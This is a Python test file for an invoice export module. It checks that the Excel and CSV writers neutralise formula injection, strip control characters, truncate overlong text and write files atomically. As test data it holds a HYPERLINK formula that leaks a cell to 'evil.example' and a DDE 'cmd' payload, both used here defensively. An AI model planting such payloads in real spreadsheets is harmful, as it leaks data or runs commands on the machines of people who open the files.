"""The one Excel/CSV writer: no formula from data, text a workbook can hold, atomic files."""

from __future__ import annotations

import os
import warnings

import pandas as pd
import pytest

openpyxl = pytest.importorskip("openpyxl")

from invoice_analytics.errors import ExportWarning  # noqa: E402
from invoice_analytics.export import EXCEL_CELL_LIMIT, write_csv, write_excel  # noqa: E402
from tests.support.frames import frame  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Invoice")'


def poisoned() -> pd.DataFrame:
    return frame(
        {"customer_name": EVIL, "invoice_id": "=1+1", "outstanding": 5_000},
        {"customer_name": "+62 812", "invoice_id": "@SUM(A1)", "outstanding": -10},
        {"customer_name": "-minus", "invoice_id": "\tTab", "outstanding": 0},
    )


def cells(path, sheet=None):
    book = openpyxl.load_workbook(path)
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def test_no_workbook_cell_is_a_formula_built_from_data(tmp_path):
    path = write_excel(tmp_path / "book.xlsx", {"Invoices": poisoned(), "Report": poisoned().set_index("invoice_id")})
    for sheet in ("Invoices", "Report"):
        found = cells(path, sheet)
        assert not [c.coordinate for c in found if c.data_type == "f"]
        values = {c.value for c in found}
        assert EVIL in values and "=1+1" in values and "@SUM(A1)" in values  # kept, as text
    rupiah = [c for c in cells(path, "Invoices") if c.value == 5_000]
    assert rupiah and rupiah[0].data_type == "n"  # numbers stay numbers


def test_control_characters_are_removed_with_a_warning_not_a_traceback(tmp_path):
    df = frame({"customer_name": "PT\x00 Untung\x1b Jaya\tTbk\nBaris"})
    with pytest.warns(ExportWarning, match="control characters"):
        path = write_excel(tmp_path / "book.xlsx", {"Invoices": df})
    assert "PT Untung Jaya\tTbk\nBaris" in {c.value for c in cells(path)}


def test_text_longer_than_a_cell_is_cut_with_a_warning(tmp_path):
    df = frame({"customer_name": "x" * (EXCEL_CELL_LIMIT + 10)})
    with pytest.warns(ExportWarning, match="longer than an Excel cell"):
        path = write_excel(tmp_path / "book.xlsx", {"Invoices": df})
    assert max(len(str(c.value)) for c in cells(path)) == EXCEL_CELL_LIMIT


def test_clean_text_gives_no_warning(tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        write_excel(tmp_path / "book.xlsx", {"Invoices": frame({"customer_name": "PT Maju"})})


def test_a_failed_export_leaves_no_partial_file(tmp_path):
    target = tmp_path / "book.xlsx"
    target.write_bytes(b"the previous workbook")
    with pytest.raises(ValueError):  # openpyxl refuses a sheet title with '/'
        write_excel(target, {"ok": frame({}), "bad/title": frame({})})
    assert target.read_bytes() == b"the previous workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["book.xlsx"]  # no temporary file left


def test_csv_neutralises_formula_starts_by_default(tmp_path):
    path = write_csv(tmp_path / "out.csv", poisoned())
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["customer_name"].tolist() == ["'" + EVIL, "'+62 812", "'-minus"]
    assert back["invoice_id"].tolist() == ["'=1+1", "'@SUM(A1)", "'\tTab"]
    assert back["outstanding"].tolist() == ["5000", "-10", "0"]  # numbers untouched


def test_csv_raw_for_programs(tmp_path):
    path = write_csv(tmp_path / "out.csv", poisoned(), neutralize_formulas=False)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["customer_name"].tolist() == [EVIL, "+62 812", "-minus"]


def test_csv_index_is_neutralised_too(tmp_path):
    report = pd.DataFrame({"Total": [1]}, index=pd.Index(["=cmd|' /C calc'!A0"], name="customer_name"))
    back = pd.read_csv(write_csv(tmp_path / "r.csv", report), dtype=str)
    assert back["customer_name"].tolist() == ["'=cmd|' /C calc'!A0"]


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_exports_follow_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        path = write_csv(path=tmp_path / "a.csv", frame=pd.DataFrame({"x": [1]}))
        assert path.stat().st_mode & 0o777 == 0o644
        os.umask(0o077)
        path = write_csv(path=tmp_path / "b.csv", frame=pd.DataFrame({"x": [1]}))
        assert path.stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(old)
